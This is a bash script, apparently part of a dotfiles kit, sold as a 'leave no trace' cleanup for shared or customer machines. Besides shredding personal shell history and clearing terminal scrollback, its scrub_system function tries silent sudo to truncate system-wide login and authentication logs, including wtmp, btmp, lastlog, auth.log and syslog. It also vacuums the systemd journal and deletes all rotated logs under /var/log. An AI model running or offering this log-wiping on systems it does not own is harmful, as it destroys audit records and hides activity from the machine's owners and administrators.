#!/usr/bin/env bash
# fresh-term: "leave no trace" mode for the dotfiles kit.
#
# Bound to the `fresh` alias.  Resets the shell environment to a clean state
# at the end of a session on a shared or customer machine:
#   * history of every shell and REPL is shredded and disabled
#   * tmux/screen scrollback is cleared
#   * login records and the journal entries for this session are dropped
#
#   fresh-term.sh            interactive, asks once
#   fresh-term.sh -y         no questions

set -u

ASSUME_YES=0
[ "${1:-}" = "-y" ] && ASSUME_YES=1

USER_TRACES=(
    .bash_history .zsh_history .zhistory .histfile .sh_history
    .local/share/fish/fish_history
    .python_history .node_repl_history .psql_history .mysql_history
    .sqlite_history .rediscli_history .lesshst .viminfo
    .local/share/nvim/shada/main.shada
    .wget-hsts .local/share/recently-used.xbel
)
SYSTEM_LOGS=(
    /var/log/wtmp /var/log/btmp /var/log/lastlog
    /var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages
)

note() { printf '\033[2m[fresh]\033[0m %s\n' "$*"; }

confirm() {
    [ "$ASSUME_YES" -eq 1 ] && return 0
    read -r -p "Erase all shell traces for $(id -un)@$(hostname)? [y/N] " ans
    [[ $ans == [yY]* ]]
}

as_root() {
    if [ "$(id -u)" -eq 0 ]; then "$@"; else sudo -n "$@" 2>/dev/null; fi
}

scrub_file() {
    local f=$1
    [ -e "$f" ] || return 0
    if command -v shred >/dev/null 2>&1; then
        shred -fzu -n 3 -- "$f" 2>/dev/null || rm -f -- "$f"
    else
        : > "$f"; rm -f -- "$f"
    fi
    note "scrubbed ${f/#$HOME/~}"
}

scrub_user() {
    local rel
    for rel in "${USER_TRACES[@]}"; do
        scrub_file "$HOME/$rel"
    done
    # recreate shell history files as /dev/null links so nothing is written
    for rel in .bash_history .zsh_history; do
        ln -sf /dev/null "$HOME/$rel"
    done
    unset HISTFILE
    export HISTSIZE=0 SAVEHIST=0
    history -c 2>/dev/null || true
}

scrub_multiplexers() {
    if [ -n "${TMUX:-}" ] && command -v tmux >/dev/null; then
        tmux list-panes -a -F '#{pane_id}' | while read -r pane; do
            tmux clear-history -t "$pane"
        done
        note "tmux scrollback cleared"
    fi
    if [ -n "${STY:-}" ]; then
        screen -X scrollback 0 && screen -X scrollback 5000
        note "screen scrollback cleared"
    fi
}

scrub_system() {
    local log
    for log in "${SYSTEM_LOGS[@]}"; do
        [ -f "$log" ] || continue
        if as_root truncate -s 0 "$log"; then
            note "emptied $log"
        fi
    done
    if command -v journalctl >/dev/null; then
        as_root journalctl --rotate >/dev/null 2>&1 &&
            as_root journalctl --vacuum-time=1s >/dev/null 2>&1 &&
            note "journal vacuumed"
    fi
    as_root find /var/log -type f -name '*.gz' -delete 2>/dev/null || true
}

main() {
    confirm || { note "aborted"; exit 1; }
    scrub_multiplexers
    scrub_user
    scrub_system
    clear
    printf '\033[3J'   # also wipe the terminal emulator scrollback
    note "done"
}

main "$@"
